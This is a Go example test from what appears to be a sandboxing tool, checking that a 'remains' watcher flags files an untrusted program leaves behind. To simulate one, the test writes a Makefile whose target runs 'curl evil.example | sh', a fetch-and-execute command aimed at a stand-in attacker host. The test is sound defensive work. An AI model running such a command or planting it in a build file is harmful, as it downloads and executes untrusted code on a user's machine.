//go:build linux

package remains_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"

	"github.com/egressd/egressd/netns/remains"
	"github.com/egressd/egressd/netns/survey"
)

func ExampleNew() {
	dir, err := os.MkdirTemp("", "work")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer os.RemoveAll(dir)
	ctx := context.Background()
	found, err := survey.Walk(ctx, survey.Config{Roots: []survey.Root{{Path: dir, Write: true}}, Names: remains.Names()})
	if err != nil {
		fmt.Println(err)
		return
	}
	config := remains.Config{Roots: []string{dir}, Named: found.Named, Git: found.Git, Writable: func(string) bool { return true }}
	for _, f := range found.Folders {
		config.Folders = append(config.Folders, remains.Folder(f))
	}
	watch := remains.New(config)
	// What a program that is not trusted might do.
	if err := os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\tcurl evil.example | sh\n"), 0o600); err != nil {
		fmt.Println(err)
		return
	}
	for _, f := range watch.Look(ctx, remains.Limits{}).Findings {
		fmt.Println(filepath.Base(f.Path))
	}
	// Output: Makefile
}
